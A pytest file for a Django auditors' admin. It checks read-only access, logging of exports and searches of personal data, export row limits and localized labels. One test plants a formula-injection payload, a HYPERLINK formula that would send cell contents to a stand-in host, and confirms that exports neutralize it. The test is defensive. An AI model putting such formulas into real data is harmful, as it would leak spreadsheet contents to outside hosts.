"""The admin for auditors: read-only, can export, and every export is logged."""

from __future__ import annotations

import pytest
from django.test import Client
from django.urls import reverse

from records.models import AccessLog, Participant

pytestmark = pytest.mark.django_db


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_auditor_reads_but_cannot_change_anything(make_user, participant) -> None:
    client = signed_in(make_user("auditor"))
    page = client.get(reverse("admin:records_participant_change", args=[participant.pk]))
    assert page.status_code == 200
    assert 'name="_save"' not in page.content.decode()
    day_url = reverse("admin:records_calendarday_changelist")
    assert client.get(day_url).status_code == 200
    assert client.get(reverse("admin:records_calendarday_add")).status_code == 403
    response = client.post(reverse("admin:records_participant_delete", args=[participant.pk]), {"post": "yes"})
    assert response.status_code == 403
    assert Participant.objects.filter(pk=participant.pk).exists()
    assert client.get(reverse("admin:auth_user_changelist")).status_code == 403


def test_auditor_exports_and_the_export_is_logged(make_user, participant) -> None:
    auditor = make_user("auditor")
    client = signed_in(auditor)
    url = reverse("admin:records_participant_export") + "?gender__exact=M"
    form = client.get(url)
    assert form.status_code == 200
    response = client.post(
        url,
        {
            "format": "0",  # CSV
            "resource": "0",
            **{f"participantresource_{name}": "on" for name in ("iin", "last_name", "first_name")},
        },
    )
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"].startswith("attachment")
    body = response.content.decode("utf-8")
    assert participant.iin in body
    entry = AccessLog.objects.get(kind=AccessLog.Kind.EXPORT)
    assert entry.user == auditor
    assert entry.view == "admin:records.participant"
    assert entry.row_count == 1
    assert entry.query["filters"] == {"gender__exact": ["M"]}
    assert entry.query["format"] == "csv"


@pytest.mark.parametrize(
    "name",
    [
        "records_participant",
        "records_personaldatachange",
        "records_registryperson",
        "contributions_orderline",
        "contributions_ledgerentry",
        "contributions_refund",
    ],
)
def test_opening_an_admin_list_of_personal_data_is_logged(make_user, participant, name: str) -> None:
    auditor = make_user("auditor")
    response = signed_in(auditor).get(reverse(f"admin:{name}_changelist"), {"q": participant.iin})
    assert response.status_code == 200
    app, model = name.split("_", 1)
    entry = AccessLog.objects.get(view=f"admin:{app}.{model}_changelist")
    assert (entry.user, entry.kind, entry.query["q"]) == (auditor, AccessLog.Kind.SEARCH, [participant.iin])


def test_head_of_service_may_not_export(make_user) -> None:
    client = signed_in(make_user("head_of_service"))
    assert client.get(reverse("admin:records_participant_export")).status_code == 403
    assert not AccessLog.objects.filter(kind=AccessLog.Kind.EXPORT).exists()


def test_every_model_is_in_the_admin() -> None:
    from django.apps import apps
    from django.contrib import admin

    ours = {"records", "standards", "contributions", "payments"}
    missing = [
        m._meta.label for m in apps.get_models() if m._meta.app_label in ours and not admin.site.is_registered(m)
    ]
    assert not missing


def _export(client: Client, fmt: str) -> bytes:
    from records.export_formats import EXPORT_FORMATS

    index = next(i for i, f in enumerate(EXPORT_FORMATS) if f().get_title() == fmt)
    response = client.post(
        reverse("admin:records_participant_export"),
        {
            "format": str(index),
            "resource": "0",
            **{f"participantresource_{name}": "on" for name in ("iin", "last_name", "first_name", "patronymic")},
        },
    )
    assert response.status_code == 200, response.content[:500]
    return response.content


def test_exports_never_turn_payers_text_into_spreadsheet_formulas(make_user, participant) -> None:
    """A name that reads as a formula stays text: exact in XLSX (a text cell, also for what
    looks like an error code), quoted with an apostrophe in CSV and TSV, every field in double
    quotes so that a spreadsheet splitting on ";" (Russian Excel) cannot cut a formula into a
    cell of its own; plain negative numbers are left alone."""
    import csv
    import io

    from openpyxl import load_workbook

    Participant.objects.filter(pk=participant.pk).update(
        last_name='=HYPERLINK("http://x.example/?"&A1,"Жми")', first_name=" @SUM(1+1)", patronymic="#N/A"
    )
    client = signed_in(make_user("auditor"))

    sheet = load_workbook(io.BytesIO(_export(client, "xlsx"))).active
    rows = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert rows['=HYPERLINK("http://x.example/?"&A1,"Жми")'] == "s"
    assert rows[" @SUM(1+1)"] == "s"
    assert rows["#N/A"] == "s"
    assert all(kind not in ("f", "e") for kind in rows.values())

    body = _export(client, "csv").decode("utf-8-sig")  # with a byte order mark and ";" (issue 19)
    (_header, row) = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert row[1:] == ['\'=HYPERLINK("http://x.example/?"&A1,"Жми")', "' @SUM(1+1)", "#N/A"]
    assert all(line.startswith('"') for line in body.splitlines())  # every field quoted

    Participant.objects.filter(pk=participant.pk).update(last_name="ИВАНОВ;=1+2", first_name="-150.00")
    body = _export(client, "csv").decode("utf-8-sig")
    assert '"ИВАНОВ;=1+2"' in body  # one quoted field: ";" inside quotes splits nothing
    assert '"-150.00"' in body

    tsv = _export(client, "tsv").decode("utf-8")
    assert '"ИВАНОВ;=1+2"' in tsv


def test_a_calendar_exported_as_csv_and_imported_again_keeps_its_names(make_user) -> None:
    """The apostrophe the CSV export puts before formula-like text is taken off on import."""
    from records.admin import CalendarDayResource
    from records.export_formats import CSV
    from records.models import CalendarDay

    day = CalendarDay.objects.get(date="2026-12-16")
    CalendarDay.objects.filter(pk=day.pk).update(note="-перенос-", name_en="=Independence Day")
    dataset = CalendarDayResource().export(queryset=CalendarDay.objects.filter(pk=day.pk))
    exported = CSV().export_data(dataset)
    assert "'-перенос-" in exported
    imported = CalendarDayResource().import_data(CSV().create_dataset(exported), dry_run=False, raise_errors=True)
    assert not imported.has_errors()
    day.refresh_from_db()
    assert (day.note, day.name_en) == ("-перенос-", "=Independence Day")


def test_an_export_larger_than_the_limit_is_refused_with_a_reason(settings, make_user, participant, people) -> None:
    """Exports are built in memory: above EXPORT_MAX_ROWS the auditor is asked to filter first,
    and nothing is exported or logged."""
    from records.services import Actor, participant_create

    participant_create(
        iin=people[5].iin,
        actor=Actor(label="test"),
        source="test",
        last_name=people[5].last_name,
        first_name=people[5].first_name,
        patronymic=people[5].patronymic,
        birth_date=people[5].birth_date,
        gender=people[5].gender,
    )
    settings.EXPORT_MAX_ROWS = 1
    client = signed_in(make_user("auditor"))
    response = client.post(
        reverse("admin:records_participant_export"),
        {"format": "0", "resource": "0", "participantresource_iin": "on"},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert response.status_code == 200
    assert "Content-Disposition" not in response
    assert "The export would hold 2 rows, more than the 1 one export may hold" in response.content.decode()
    settings.EXPORT_MAX_ROWS = 0
    response = client.post(
        reverse("admin:records_participant_export"),
        {"format": "0", "resource": "0", "participantresource_iin": "on"},
        HTTP_ACCEPT_LANGUAGE="ru",
    )
    assert "В выгрузке было бы 2 строки" in response.content.decode()
    settings.EXPORT_MAX_ROWS = 1
    assert not AccessLog.objects.filter(kind=AccessLog.Kind.EXPORT).exists()
    # Filtered down to the limit, it goes through.
    response = client.post(
        reverse("admin:records_participant_export") + f"?q={participant.iin}",
        {"format": "0", "resource": "0", "participantresource_iin": "on"},
    )
    assert response["Content-Disposition"].startswith("attachment")


def test_the_export_form_names_fields_in_the_readers_language(make_user) -> None:
    """Fields are labelled as in the rest of the admin (not ``Payer Idn``), with the file's
    column name, which stays the field's name."""
    client = signed_in(make_user("auditor"))
    page = client.get(reverse("admin:contributions_ledgerentry_export"), HTTP_ACCEPT_LANGUAGE="ru").content.decode()
    assert "ИИН/БИН плательщика (payer_idn)" in page
    assert "Payer Idn" not in page
    assert "Персонифицированный учет: администрирование" in page  # not "Django administration"
